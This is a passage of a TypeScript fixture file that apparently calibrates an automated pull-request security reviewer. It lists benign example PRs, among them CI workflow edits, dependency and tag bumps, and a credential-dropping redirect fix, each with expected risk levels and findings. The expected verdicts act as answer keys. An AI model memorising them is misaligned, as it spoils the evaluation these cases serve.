    repo: 'parcel-fetch',
    title: 'ci: trace slow tests',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/test.yml',
        base: lines('name: test', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: npm ci', '      - run: npm test'),
        head: lines('name: test', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: npm ci', '      - run: npm test', '      - run: NODE_OPTIONS=--require=./scripts/trace.cjs npm test'),
      },
      { path: 'scripts/trace.cjs', head: lines("const { performance } = require('node:perf_hooks');", "process.on('exit', () => console.log('elapsed', Math.round(performance.now())));") },
    ],
    checks: [{ name: 'test' }],
    expect: { level: 'medium', action: ['comment', 'needs_discussion'], drivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-workflow-permissions-tightened-with-command-edit',
    description:
      "A maintainer gives a test workflow a read-only token (it ran with the repository's default) and, in the same edit, runs the test job's script with coverage: the same steps and actions, a command of an existing step edited, a token that can do less; CI green.",
    repo: 'parcel-http',
    title: 'ci: read-only token, coverage in the test job',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/tests.yml',
        base: lines('name: tests', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: actions/setup-python@42375524e23c412d93fb67b49958b491fce71c38 # v5.4.0', '        with:', "          python-version: '3.13'", '      - run: pip install -e .[test]', '      - run: pytest'),
        head: lines('name: tests', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: actions/setup-python@42375524e23c412d93fb67b49958b491fce71c38 # v5.4.0', '        with:', "          python-version: '3.13'", '      - run: pip install -e .[test]', '      - run: pytest --cov=parcel --cov-report=term-missing'),
      },
    ],
    checks: GREEN_PY,
    expect: LOW_APPROVE,
  }),
  pr({
    id: 'cal-first-timer-type-declarations',
    description:
      "A first-time contributor (account 3 years old) rewrites a JavaScript client's TypeScript declarations so that the CommonJS entry re-exports the ESM types: index.d.ts and index.d.cts only, about sixty lines of interfaces and type aliases, no test file. Declarations describe types to the type checker and never run; CI green (its type check passes).",
    repo: 'parcel-fetch',
    title: 'fix(types): export CJS types from ESM',
    author: { login: 'tess-ng', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2023-02-14T00:00:00Z' },
    files: [
      {
        path: 'index.d.ts',
        base: lines('export interface RequestConfig {', '  url?: string;', '  method?: string;', '}', 'export declare function request(config: RequestConfig): Promise<unknown>;', 'export default request;'),
        head: lines(
          'export type Method = "get" | "post" | "put" | "patch" | "delete" | "head" | "options";',
          'export type ResponseType = "json" | "text" | "blob" | "arraybuffer" | "stream";',
          'export interface RequestHeaders {',
          '  [name: string]: string | string[] | undefined;',
          '}',
          'export interface RequestConfig<D = unknown> {',
          '  url?: string;',
          '  method?: Method;',
          '  baseURL?: string;',
          '  headers?: RequestHeaders;',
          '  params?: Record<string, unknown>;',
          '  data?: D;',
          '  timeout?: number;',
          '  responseType?: ResponseType;',
          '  signal?: AbortSignal;',
          '}',
          'export interface Response<T = unknown, D = unknown> {',
          '  data: T;',
          '  status: number;',
          '  statusText: string;',
          '  headers: RequestHeaders;',
          '  config: RequestConfig<D>;',
          '}',
          'export interface Client {',
          '  <T = unknown>(config: RequestConfig): Promise<Response<T>>;',
          '  get<T = unknown>(url: string, config?: RequestConfig): Promise<Response<T>>;',
          '  post<T = unknown, D = unknown>(url: string, data?: D, config?: RequestConfig<D>): Promise<Response<T>>;',
          '  create(defaults?: RequestConfig): Client;',
          '}',
          'export declare function request<T = unknown>(config: RequestConfig): Promise<Response<T>>;',
          'declare const client: Client;',
          'export default client;',
        ),
      },
      {
        path: 'index.d.cts',
        base: lines('interface RequestConfig {', '  url?: string;', '  method?: string;', '}', 'declare function request(config: RequestConfig): Promise<unknown>;', 'export = request;'),
        head: lines(
          'import type * as esm from "./index.js";',
          'declare namespace client {',
          '  type Method = esm.Method;',
          '  type ResponseType = esm.ResponseType;',
          '  type RequestHeaders = esm.RequestHeaders;',
          '  type RequestConfig<D = unknown> = esm.RequestConfig<D>;',
          '  type Response<T = unknown, D = unknown> = esm.Response<T, D>;',
          '  type Client = esm.Client;',
          '}',
          'declare const client: esm.Client;',
          'export = client;',
        ),
      },
    ],
    checks: [{ name: 'test' }, { name: 'typecheck' }],
    expect: { level: 'low', action: 'comment', absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal-first-timer-action-tags-bumped',
    description:
      "A first-time contributor (account 4 years old) moves the tags a web framework's workflows already follow one release on: the scanner action 0.33.1 to 0.34.0, the coverage uploader v5 to v6, actions/checkout v5 to v6. Each action was followed by a tag before; whoever controls those tags decided what ran already, so the PR adds no trust. CI green.",
    repo: 'switchyard-go',
    title: 'chore(deps): bump the actions group with 3 updates',
    author: { login: 'oskar-lind', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2022-01-20T00:00:00Z' },
    files: [
      {
        path: '.github/workflows/ci.yml',
        base: lines('name: ci', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v5', '      - uses: actions/setup-go@v6', '        with:', "          go-version: '1.25'", '      - run: go test -race -coverprofile=coverage.out ./...', '      - uses: coverage-tools/upload-action@v5', '        with:', '          files: coverage.out', '  scan:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v5', '      - uses: scanner-org/fs-scan-action@0.33.1', '        with:', '          scan-type: fs', "          exit-code: '1'"),
        head: lines('name: ci', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v6', '      - uses: actions/setup-go@v6', '        with:', "          go-version: '1.25'", '      - run: go test -race -coverprofile=coverage.out ./...', '      - uses: coverage-tools/upload-action@v6', '        with:', '          files: coverage.out', '  scan:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v6', '      - uses: scanner-org/fs-scan-action@0.34.0', '        with:', '          scan-type: fs', "          exit-code: '1'"),
      },
    ],
    checks: GREEN_GO,
    expect: { level: 'low', action: 'comment', findings: ['gha-unpinned-action'] },
  }),
  pr({
    id: 'cal-first-timer-pre-commit-tags-moved',
    description:
      "A first-time contributor (account 6 years old) runs `pre-commit autoupdate` on a Python web framework: the two hook repositories the configuration already follows by release tags move one release on, nothing else changes. Their owners controlled the old tags as well; CI green.",
    repo: 'parcel-http',
    title: 'update pre-commit hooks',
    author: { login: 'jun-okada', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2020-06-09T00:00:00Z' },
    files: [
      {
        path: '.pre-commit-config.yaml',
        base: lines('repos:', '  - repo: https://github.com/astral-sh/ruff-pre-commit', '    rev: v0.11.8', '    hooks:', '      - id: ruff', '      - id: ruff-format', '  - repo: https://github.com/pre-commit/pre-commit-hooks', '    rev: v5.0.0', '    hooks:', '      - id: check-merge-conflict', '      - id: end-of-file-fixer'),
        head: lines('repos:', '  - repo: https://github.com/astral-sh/ruff-pre-commit', '    rev: v0.11.9', '    hooks:', '      - id: ruff', '      - id: ruff-format', '  - repo: https://github.com/pre-commit/pre-commit-hooks', '    rev: v6.0.0', '    hooks:', '      - id: check-merge-conflict', '      - id: end-of-file-fixer'),
      },
    ],
    checks: GREEN_PY,
    expect: { level: 'low', action: 'comment', findings: ['pre-commit-rev-moved'] },
  }),
  pr({
    id: 'cal-package-moved-under-src',
    description:
      "A maintainer moves a Python HTTP library's package under src/ (the src layout): its auth, session and certificate modules are renamed with no line changed, so they run as before; CI green.",
    repo: 'parcel-http',
    title: 'Move to src directory',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      ...[
        ['auth.py', lines('import hashlib', '', 'class DigestAuth:', '    def __init__(self, username, password):', '        self.username = username', '        self.password = password')],
        ['sessions.py', lines('from .auth import DigestAuth', '', 'class Session:', '    def __init__(self):', '        self.auth = None')],
        ['certs.py', lines('import certifi', '', 'def where():', '    return certifi.where()')],
        ['models.py', lines('class Response:', '    status_code = None')],
      ].map(([name, text]) => ({ path: `src/parcel/${name}`, previousPath: `parcel/${name}`, status: 'renamed' as const, base: text, head: text })),
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, noFindings: true, absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-router-escaped-colon-state',
    description:
      "A regular contributor lets a Go router's path syntax escape a literal colon with a backslash: the wildcard scanner keeps an escapeColon flag that it declares false, sets true after a backslash and resets; a scanner's state, no protection switched off; with a test, CI green.",
    repo: 'trellis-go',
    title: 'feat(router): add literal colon support',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'tree.go',
        base: lines('package trellis', '', 'func findWildcard(path string) (string, int, bool) {', '\tfor start, c := range []byte(path) {', "\t\tif c != ':' && c != '*' {", '\t\t\tcontinue', '\t\t}', '\t\treturn path[start:], start, true', '\t}', "\treturn \"\", -1, false", '}'),
        head: lines('package trellis', '', 'func findWildcard(path string) (string, int, bool) {', '\tescapeColon := false', '\tfor start, c := range []byte(path) {', '\t\tif escapeColon {', '\t\t\tescapeColon = false', "\t\t\tif c == ':' {", '\t\t\t\tcontinue', '\t\t\t}', "\t\t\tpanic(\"invalid escape string in path '\" + path + \"'\")", '\t\t}', "\t\tif c == '\\\\' {", '\t\t\tescapeColon = true', '\t\t\tcontinue', '\t\t}', "\t\tif c != ':' && c != '*' {", '\t\t\tcontinue', '\t\t}', '\t\treturn path[start:], start, true', '\t}', "\treturn \"\", -1, false", '}'),
      },
      { path: 'tree_test.go', base: lines('package trellis'), head: lines('package trellis', '', 'import "testing"', '', 'func TestEscapedColon(t *testing.T) {', "\tif _, i, _ := findWildcard(`/a\\:b`); i != -1 {", '\t\tt.Fatal("an escaped colon is no wildcard")', '\t}', '}') },
    ],
    checks: GREEN_GO,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-template-engine-dropped-with-its-gem',
    description:
      "A regular contributor drops a Ruby web framework's support for a little-used template engine: the gem leaves the Gemfile, its render method and README section go, and so do its test and the templates that test rendered; the code they tested is gone. CI green.",
    repo: 'lantern-rb',
    title: 'Remove Radius',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      { path: 'Gemfile', base: lines("source 'https://rubygems.org'", 'gemspec', "gem 'kramdown'", "gem 'radius'", "gem 'liquid'"), head: lines("source 'https://rubygems.org'", 'gemspec', "gem 'kramdown'", "gem 'liquid'") },
      {
        path: 'lib/lantern/templates.rb',
        base: lines('module Lantern', '  module Templates', '    def liquid(template, options = {}, locals = {})', '      render :liquid, template, options, locals', '    end', '', '    def radius(template, options = {}, locals = {})', '      render :radius, template, options, locals', '    end', '  end', 'end'),
        head: lines('module Lantern', '  module Templates', '    def liquid(template, options = {}, locals = {})', '      render :liquid, template, options, locals', '    end', '  end', 'end'),
      },
      { path: 'test/radius_test.rb', base: lines("require_relative 'test_helper'", '', 'class RadiusTest < Minitest::Test', '  def test_renders_inline_strings', "    radius_app { radius 'Hello World!' }", "    assert_equal 'Hello World!', body", '  end', 'end') },
      { path: 'test/views/hello.radius', base: lines('<h1>Hello From Radius</h1>') },
      { path: 'test/views/layout2.radius', base: lines('<h1>Radius Layout!</h1>', '<p><r:yield /></p>') },
    ],
    checks: GREEN_RUBY,
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['tests-deleted'] },
  }),
  pr({
    id: 'cal-setup-py-requirements-moved-to-pyproject',
    description:
      "A maintainer moves a Python library's build to PEP 517: the dependencies that setup.py listed in a `requires` variable (passed as install_requires) and a test_requirements variable move into pyproject.toml's [project] table and a test extra; the packages are the same, moved, not new. CI green.",
    repo: 'parcel-http',
    title: 'Migrate build system to PEP 517',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'setup.py',
        base: lines('from setuptools import setup', '', 'requires = [', '    "charset_normalizer>=2,<4",', '    "idna>=2.5,<4",', '    "urllib3>=1.21.1,<3",', ']', 'test_requirements = [', '    "pytest-mock",', '    "pytest>=3",', ']', '', 'setup(', '    name="parcel-http",', '    install_requires=requires,', '    tests_require=test_requirements,', ')'),
        head: lines('from setuptools import setup', '', 'setup()'),
      },
      {
        path: 'pyproject.toml',
        base: lines('[tool.ruff]', 'line-length = 100'),
        head: lines('[build-system]', 'requires = ["setuptools>=61.0"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "parcel-http"', 'dynamic = ["version"]', 'dependencies = [', '    "charset_normalizer>=2,<4",', '    "idna>=2.5,<4",', '    "urllib3>=1.21.1,<3",', ']', '', '[project.optional-dependencies]', 'test = ["pytest-mock", "pytest>=3"]', '', '[tool.ruff]', 'line-length = 100'),
      },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, absentDrivers: ['new-dependencies'] },
  }),
  pr({
    id: 'cal-workflow-triggers-reformatted-schedule-moved',
    description:
      "A maintainer tidies two workflows: the lint workflow's triggers are written as a list instead of a mapping, a timeout and a setup-python version are added and the action moves a major; the lock-threads workflow runs daily instead of hourly. Nothing runs that did not, with no new rights; CI green.",
    repo: 'parcel-http',
    title: 'Tidy lint and lock workflows',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/lint.yml',
        base: lines('name: Lint code', '', 'on:', '  push:', '  pull_request:', '', 'permissions:', '  contents: read', '', 'jobs:', '  lint:', '    runs-on: ubuntu-22.04', '    steps:', '    - uses: actions/checkout@v4', '    - uses: actions/setup-python@v4', '    - run: pipx run pre-commit run --all-files'),
        head: lines('name: Lint code', '', 'on: [push, pull_request]', '', 'permissions:', '  contents: read', '', 'jobs:', '  lint:', '    runs-on: ubuntu-22.04', '    timeout-minutes: 10', '    steps:', '    - uses: actions/checkout@v4', '    - uses: actions/setup-python@v5', '      with:', '        python-version: "3.x"', '    - run: pipx run pre-commit run --all-files'),
      },
      {
        path: '.github/workflows/lock-issues.yml',
        base: lines("name: 'Lock Threads'", '', 'on:', '  schedule:', "    - cron: '0 * * * *'", '', 'permissions:', '  issues: write', '  pull-requests: write', '', 'jobs:', '  action:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: dessant/lock-threads@1bf7ec25051fe7c00bdd17e6a7cf3d7bfb7dc771 # v5.0.1', '        with:', '          issue-inactive-days: 90'),
        head: lines("name: 'Lock Threads'", '', 'on:', '  schedule:', "    - cron: '0 0 * * *'", '', 'permissions:', '  issues: write', '  pull-requests: write', '', 'jobs:', '  action:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: dessant/lock-threads@1bf7ec25051fe7c00bdd17e6a7cf3d7bfb7dc771 # v5.0.1', '        with:', '          issue-inactive-days: 90'),
      },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-travis-interpreter-versions-moved',
    description:
      "A regular contributor moves a Ruby library's Travis CI matrix to the latest patch releases (2.6.5 to 2.6.6, jruby-9.2.9.0 to jruby-9.2.11.0, also in the matrix entry that lets JRuby fail): the same scripts on newer interpreters; CI green.",
    repo: 'lantern-rb',
    title: 'CI: use the latest Ruby and JRuby patch releases',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: '.travis.yml',
        base: lines('language: ruby', 'dist: xenial', 'before_install:', '  - gem install bundler', 'rvm:', '  - 2.5.7', '  - 2.6.5', '  - 2.7.0', '  - jruby-9.2.9.0', '  - ruby-head', 'matrix:', '  fast_finish: true', '  allow_failures:', '    - rvm: ruby-head', '    - rvm: jruby-9.2.9.0'),
        head: lines('language: ruby', 'dist: xenial', 'before_install:', '  - gem install bundler', 'rvm:', '  - 2.5.8', '  - 2.6.6', '  - 2.7.1', '  - jruby-9.2.11.0', '  - ruby-head', 'matrix:', '  fast_finish: true', '  allow_failures:', '    - rvm: ruby-head', '    - rvm: jruby-9.2.11.0'),
      },
    ],
    checks: [{ name: 'continuous-integration/travis-ci/pr' }],
    expect: { ...LOW_APPROVE, noFindings: true, absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-token-slot-name-constant',
    description:
      "A regular contributor lets a Ruby framework's flash messages carry a one-time token, kept in the session under a slot whose name is a private constant (FLASH_TOKEN_KEY = '!flash_token_slot'): a key name of words behind a sigil, no secret; with a test, CI green.",
    repo: 'lantern-rb',
    title: 'Add one-time tokens to flash messages',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'lib/lantern/flash.rb',
        base: lines('module Lantern', '  class Flash', '    def initialize(session)', '      @session = session', '    end', '  end', 'end'),
        head: lines('module Lantern', '  class Flash', "    FLASH_TOKEN_KEY = '!flash_token_slot'", '    private_constant :FLASH_TOKEN_KEY', '', '    def initialize(session)', '      @session = session', '    end', '', '    def token', '      @session[FLASH_TOKEN_KEY] ||= SecureRandom.hex(16)', '    end', '  end', 'end'),
      },
      { path: 'test/flash_test.rb', base: lines("require_relative 'test_helper'"), head: lines("require_relative 'test_helper'", '', 'class FlashTest < Minitest::Test', '  def test_token_is_kept', '    session = {}', '    flash = Lantern::Flash.new(session)', '    assert_equal flash.token, flash.token', '  end', 'end') },
    ],
    checks: GREEN_RUBY,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-typed-parameter-default-already-off',
    description:
      "A regular contributor adds parameter and return types across a PHP client's JSON decoder (bool $strictMode = false for $strictMode = false): strict mode was off by default before and still is; the setting is reported as moved, low. With tests, CI green.",
    repo: 'courier-php',
    title: 'Added type annotations',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'src/Json/Decoder.php',
        base: lines('<?php', 'namespace Courier\\Json;', '', 'class Decoder', '{', '    private $strictMode;', '', '    public function __construct($strictMode = false)', '    {', '        $this->strictMode = $strictMode;', '    }', '', '    public function count()', '    {', '        return 0;', '    }', '}'),
        head: lines('<?php', 'namespace Courier\\Json;', '', 'class Decoder', '{', '    private bool $strictMode;', '', '    public function __construct(bool $strictMode = false)', '    {', '        $this->strictMode = $strictMode;', '    }', '', '    public function count(): int', '    {', '        return 0;', '    }', '}'),
      },
      { path: 'tests/Json/DecoderTest.php', base: lines('<?php'), head: lines('<?php', 'namespace Courier\\Tests\\Json;', '', 'use Courier\\Json\\Decoder;', '', 'final class DecoderTest extends \\PHPUnit\\Framework\\TestCase', '{', '    public function testCountsNothing(): void', '    {', '        self::assertSame(0, (new Decoder())->count());', '    }', '}') },
    ],
    checks: GREEN_PHP,
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['protection-switched-off'] },
  }),
  pr({
    id: 'cal-azure-pipelines-sdk-and-build-command',
    description:
      "A maintainer of a .NET library moves its Azure Pipelines build to the next SDK (a UseDotNet step like the one before it) and edits the build script's arguments in the step that also passes the signing settings along; the signing step itself is untouched: a job's own commands edited, CI green.",
    repo: 'jsonkit-net',
    title: 'Build with the .NET 9 SDK',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'azure-pipelines.yml',
        base: lines('trigger:', '- main', 'pool:', "  vmImage: 'windows-2022'", 'steps:', '- task: UseDotNet@2', '  inputs:', "    version: '8.0.x'", '- pwsh: ./build/run.ps1 -Framework net8.0 -SignAssemblies $sign', "  displayName: 'Run build'", '- task: AzureCLI@2', '  inputs:', "    azureSubscription: 'CodeSigning'", '    scriptPath: ./build/sign-package.ps1', "  displayName: 'Authenticode sign packages'", "  condition: and(succeeded(), ne(variables['Build.Reason'], 'PullRequest'))"),
        head: lines('trigger:', '- main', 'pool:', "  vmImage: 'windows-2022'", 'steps:', '- task: UseDotNet@2', '  inputs:', "    version: '9.0.x'", '- task: UseDotNet@2', '  inputs:', "    version: '8.0.x'", '    packageType: runtime', '- pwsh: ./build/run.ps1 -Framework net9.0 -SignAssemblies $sign', "  displayName: 'Run build'", '- task: AzureCLI@2', '  inputs:', "    azureSubscription: 'CodeSigning'", '    scriptPath: ./build/sign-package.ps1', "  displayName: 'Authenticode sign packages'", "  condition: and(succeeded(), ne(variables['Build.Reason'], 'PullRequest'))"),
      },
    ],
    checks: [{ name: 'jsonkit-net CI' }],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-gradle-wrapper-upgrade-with-jar',
    description:
      "A maintainer upgrades a Java library's Gradle wrapper as `./gradlew wrapper --gradle-version` writes it: the properties move to the next release on services.gradle.org with its checksum, and the wrapper jar is replaced with that release's; CI green.",
    repo: 'lantern-java',
    title: 'Update Gradle to 8.14.2',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'gradle/wrapper/gradle-wrapper.properties',
        base: lines('distributionBase=GRADLE_USER_HOME', 'distributionPath=wrapper/dists', 'distributionSha256Sum=31c55713e40233a8303827ceb42ca48a47267a0ad4bab9177123121e71524c26', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10.2-bin.zip', 'zipStoreBase=GRADLE_USER_HOME'),
        head: lines('distributionBase=GRADLE_USER_HOME', 'distributionPath=wrapper/dists', 'distributionSha256Sum=7197a12f450794931532469d4ff21a59ea2c1cd59a3ec3f89c035c3c420a6999', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.14.2-bin.zip', 'zipStoreBase=GRADLE_USER_HOME'),
      },
      { path: 'gradle/wrapper/gradle-wrapper.jar', status: 'modified', patch: null, additions: 0, deletions: 0, base: '', head: '' },
    ],
    checks: [{ name: 'gradle build' }],
    expect: { ...LOW_APPROVE, noFindings: true, absentDrivers: ['binaries'] },
  }),
  pr({
    id: 'cal-cargo-fuzz-lockfile-follows-path-crate',
    description:
      "A maintainer bumps a Rust library's serde requirement; the library's Cargo.lock and the separate fuzz/ workspace's Cargo.lock (cargo-fuzz, which depends on the library by path) both move to the new serde: each lockfile follows a manifest it resolves; CI green.",
    repo: 'quill-rs',
    title: 'Bump serde to 1.0.210',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'Cargo.toml', base: lines('[package]', 'name = "quill"', 'version = "0.4.0"', 'edition = "2021"', '', '[dependencies]', 'serde = "1.0.200"'), head: lines('[package]', 'name = "quill"', 'version = "0.4.0"', 'edition = "2021"', '', '[dependencies]', 'serde = "1.0.210"') },
      ...(['Cargo.lock', 'fuzz/Cargo.lock'] as const).map((path) => {
        const local = path === 'Cargo.lock' ? ['quill'] : ['quill', 'quill-fuzz'];
        const lock = (version: string, checksum: string) =>
          lines('version = 4', '', ...local.flatMap((name) => ['[[package]]', `name = "${name}"`, 'version = "0.4.0"', 'dependencies = [', ' "serde",', ']', '']), '[[package]]', 'name = "serde"', `version = "${version}"`, 'source = "registry+https://github.com/rust-lang/crates.io-index"', `checksum = "${checksum.repeat(64)}"`);
        return { path, base: lock('1.0.200', 'a'), head: lock('1.0.210', 'b') };
      }),
    ],
    checks: GREEN_RUST,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-npmrc-hardened',
    description:
      "A maintainer hardens a Node library's project .npmrc: install scripts off, a seven-day release-age cooldown, no git dependencies. The npm rules read it and find no registry, no TLS change and nothing that runs code: how npm behaves, low; CI green.",
    repo: 'switchyard',
    title: 'chore: ensure safe config in the npmrc',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [{ path: '.npmrc', base: lines('package-lock=false'), head: lines('package-lock=false', 'min-release-age=7', 'ignore-scripts=true', 'allow-git=none') }],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-release-ships-fix-with-test-and-notes',
    description:
      "A maintainer's \"Release 3.2.1\" PR of a PHP HTTP client carries the security fix it releases: the redirect follower now treats a port change as a change of origin and drops credentials, with a new test of the follower and the changelog lines that say so. The version claim is contradicted by code, but by a fix the PR announces and tests: the mismatch is a note, low; CI green.",
    repo: 'courier-php',
    title: 'Release 3.2.1',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'CHANGELOG.md', base: lines('# Changelog', '', '## 3.2.0 - 2024-02-11', '', '* Add retry middleware'), head: lines('# Changelog', '', '## 3.2.1 - 2024-03-02', '', '* Fix a port change not counted as a change of origin on redirect', '* Fix credentials kept on a cross-origin redirect', '', '## 3.2.0 - 2024-02-11', '', '* Add retry middleware') },
      {
        path: 'src/Redirect/Follower.php',
        base: lines('<?php', 'namespace Courier\\Redirect;', '', 'final class Follower', '{', '    public function options(Uri $from, Uri $to, array $options): array', '    {', '        if ($from->getHost() !== $to->getHost()) {', "            unset($options['auth']);", '        }', '        return $options;', '    }', '}'),
        head: lines('<?php', 'namespace Courier\\Redirect;', '', 'final class Follower', '{', '    public function options(Uri $from, Uri $to, array $options): array', '    {', '        if (Origin::differs($from, $to)) {', "            unset($options['auth'], $options['headers']['Authorization']);", '        }', '        return $options;', '    }', '}'),
      },
      {
        path: 'tests/Redirect/FollowerTest.php',
        base: lines('<?php', 'namespace Courier\\Tests\\Redirect;', '', 'final class FollowerTest extends \\PHPUnit\\Framework\\TestCase', '{', '}'),
        head: lines('<?php', 'namespace Courier\\Tests\\Redirect;', '', 'use Courier\\Redirect\\Follower;', '', 'final class FollowerTest extends \\PHPUnit\\Framework\\TestCase', '{', '    public function testPortChangeDropsCredentials(): void', '    {', "        $options = (new Follower())->options(new Uri('https://a.test'), new Uri('https://a.test:8443'), ['auth' => ['u', 'p']]);", "        self::assertArrayNotHasKey('auth', $options);", '    }', '}'),
      },
    ],
    checks: GREEN_PHP,
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-rubocop-interpolated-root-separator',
    description:
      "A maintainer applies RuboCop's Style/StringConcatenation across a Ruby web framework's static-file server: `path.start_with?(File.expand_path(public_dir) + '/')` becomes `path.start_with?(\"#{File.expand_path(public_dir)}/\")`, and a log line is interpolated too. The containment test still ends the root with a separator: nothing is weakened, no finding; CI green.",
    repo: 'lantern',
    title: 'Use string interpolation instead of concatenation',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'lib/lantern/static_files.rb',
        base: lines('module Lantern', '  module StaticFiles', '    def serve_static(public_dir)', '      path = File.expand_path(public_dir + unescape(request.path_info))', "      return unless path.start_with?(File.expand_path(public_dir) + '/')", '      return unless File.file?(path)', "      logger.debug('static: ' + path)", '      send_file path', '    end', '  end', 'end'),
        head: lines('module Lantern', '  module StaticFiles', '    def serve_static(public_dir)', '      path = File.expand_path(public_dir + unescape(request.path_info))', '      return unless path.start_with?("#{File.expand_path(public_dir)}/")', '      return unless File.file?(path)', '      logger.debug("static: #{path}")', '      send_file path', '    end', '  end', 'end'),
      },
    ],
    checks: GREEN_RUBY,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-kept-vendor-loop-binds-imported-module',
    description:
      "A maintainer of a Python HTTP library fixes its backwards-compatibility shim: inside the existing loop over the vendored package names (`for package in ('urllib3', 'idna', 'chardet'):`), `__import__(package)` now also binds the module in the shim's namespace. The loop is unchanged context; the import loads one of three names the project lists: nothing dynamic from outside, low; CI green.",
    repo: 'courier-py',
    title: 'Fix courier.packages not having package attribute',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'courier/packages.py',
        base: lines('import sys', '', '# Kept for backwards compatibility.', '', "for package in ('urllib3', 'idna', 'chardet'):", '    __import__(package)', '    for mod in list(sys.modules):', "        if mod == package or mod.startswith(package + '.'):", "            sys.modules['courier.packages.' + mod] = sys.modules[mod]"),
        head: lines('import sys', '', '# Kept for backwards compatibility.', '', "for package in ('urllib3', 'idna', 'chardet'):", '    locals()[package] = __import__(package)', '    for mod in list(sys.modules):', "        if mod == package or mod.startswith(package + '.'):", "            sys.modules['courier.packages.' + mod] = sys.modules[mod]"),
      },
      { path: 'tests/test_packages.py', base: lines('import courier'), head: lines('import courier', '', '', 'def test_can_access_urllib3_attribute():', '    courier.packages.urllib3') },
    ],
    checks: GREEN_PY,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
];

// ---------------------------------------------------------------------------------------------
// Shapes from the histories of JavaScript, Python, Go, Rust, Kotlin and Ruby projects (2026-11-29)

const SETUP_PY_WITH_EXTRAS = lines(
  'from setuptools import setup',
  '',
  'setup(',
  '    name="relay-http",',
  '    install_requires=[',
  '        "certifi",',
  '        "idna[codec]>=3.4,<4",',
  '        "anyio>=4,<5",',
  '    ],',
  '    extras_require={',
  '        "http2": "h2>=3,<5",',
  '        "speedups": [',
  '            "brotli; platform_python_implementation == \'CPython\'",',
  '            "brotlicffi; platform_python_implementation != \'CPython\'",',
  '        ],',
  '        "cli": ["click==8.*", "rich>=10,<14"],',
  '    },',
  ')',
);

const PYPROJECT_WITH_EXTRAS = (extra: string[]) =>
  lines(
    '[build-system]',
    'requires = ["hatchling"]',
    'build-backend = "hatchling.build"',
    '',
    '[project]',
    'name = "relay-http"',
    'dynamic = ["version"]',
    'dependencies = [',
    '    "certifi",',
